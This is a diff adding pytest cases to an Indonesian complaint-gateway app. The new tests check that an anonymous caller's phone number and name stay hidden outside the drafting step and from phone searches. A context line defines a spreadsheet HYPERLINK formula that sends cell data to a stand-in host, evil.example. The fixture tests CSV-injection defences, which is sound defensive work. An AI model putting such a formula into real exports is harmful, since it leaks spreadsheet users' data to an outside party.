@@ -7,13 +7,16 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 from flask import Flask
+from sqlalchemy import select
 
 from gateway.app import create_app
+from gateway.models import CallRecord
 from tests.gateway.test_central_events import SECRET, push
-from tests.gateway.test_console import KEY, add, login
+from tests.gateway.test_console import KEY, TOKEN, add, login
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail")'
 
@@ -56,3 +59,67 @@ def test_the_csv_export_never_hands_a_spreadsheet_a_formula(console):
     groups = {r["group"] for r in csv.DictReader(io.StringIO(exported.text))}
     # kept readable: the apostrophe tells the spreadsheet it is text, nothing is lost
     assert groups >= {"'" + a for a in agencies}
+
+
+def _call(call_id: str, privacy: str, text: str) -> dict:
+    return {
+        "call_id": call_id,
+        "caller_number": "+6281299998888",
+        "caller_name": "Budi Santoso",
+        "privacy": privacy,
+        "location": "Kota Bogor",
+        "turns": [{"speaker": "caller", "text": text}],
+    }
+
+
+LONG = "Sampah menumpuk di pinggir jalan sudah seminggu tidak diangkut, hubungi 081299998888."
+
+
+def test_an_anonymous_callers_identity_shows_only_while_the_call_is_drafted(console):
+    api = console.test_client()
+    short = api.post("/api/v1/calls", json=_call("a-1", "anonymous", "Sampah pak."), headers=KEY)
+    assert short.json["status"] == "needs_review"
+    done = api.post("/api/v1/calls", json=_call("a-2", "anonymous", LONG), headers=KEY)
+    assert done.json["status"] == "submitted"  # submitted at once: never a draft to anyone
+    client = console.test_client()
+    login(client, "ani")
+    with console.extensions["lapor"].sessions() as s:
+        ids = dict(s.execute(select(CallRecord.call_id, CallRecord.id)).all())
+    draft = client.get(f"/operator/review/{ids['a-1']}").text
+    # the operator finishing the draft sees who called (the caller may be on the line)
+    assert 'value="+6281299998888"' in draft and "Budi Santoso" in draft
+    for text in (
+        client.get(f"/operator/review/{ids['a-2']}").text,
+        client.get(f"/operator/calls/{ids['a-2']}/logged").text,
+    ):
+        assert "6281299998888" not in text and "Budi Santoso" not in text
+        assert "081299998888" not in text  # nor the number said in the call
+    form = {
+        "csrf_token": TOKEN.search(draft).group(1),
+        "phone": "+6281299998888",
+        "name": "Budi Santoso",
+        "description": LONG,
+        "location_text": "Kota Bogor",
+        "privacy": "anonymous",
+        "submit": "1",
+    }
+    assert client.post(f"/operator/review/{ids['a-1']}", data=form).status_code == 302
+    after = client.get(f"/operator/review/{ids['a-1']}").text
+    assert "status <strong>submitted" in after
+    assert "6281299998888" not in after and "Budi Santoso" not in after
+
+
+def test_a_phone_search_never_finds_an_anonymous_call(console):
+    api = console.test_client()
+    api.post("/api/v1/calls", json=_call("a-1", "anonymous", "Sampah pak."), headers=KEY)
+    api.post("/api/v1/calls", json=_call("a-2", "anonymous", LONG), headers=KEY)
+    client = console.test_client()
+    login(client, "ani")
+    for query in ("0812-9999-8888", "+6281299998888", "6281299998888"):
+        found = client.get("/operator/complaints", query_string={"q": query}).text
+        assert "/operator/review/" not in found and "/operator/complaints/LPR-" not in found
+        assert 'id="no-results"' in found
+    # the same caller's public draft is found by the number
+    api.post("/api/v1/calls", json=_call("p-1", "public", "Sampah pak."), headers=KEY)
+    found = client.get("/operator/complaints", query_string={"q": "081299998888"}).text
+    assert len(re.findall(r"/operator/review/\d+", found)) == 1
